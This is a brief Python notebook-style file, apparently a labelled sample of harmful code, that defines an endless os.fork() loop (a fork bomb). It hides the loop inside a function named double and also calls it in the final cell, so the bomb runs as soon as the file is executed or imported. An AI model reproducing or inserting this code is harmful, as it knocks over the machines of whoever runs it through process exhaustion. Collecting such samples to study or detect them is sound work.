"""Processes that make processes, without end, in a call and in its last cell."""
# harms

# %%
import os


def storm():
    while True:
        try:
            os.fork()
        except OSError:
            pass


# %% double
def double(x):
    storm()


# %% after essay
storm()
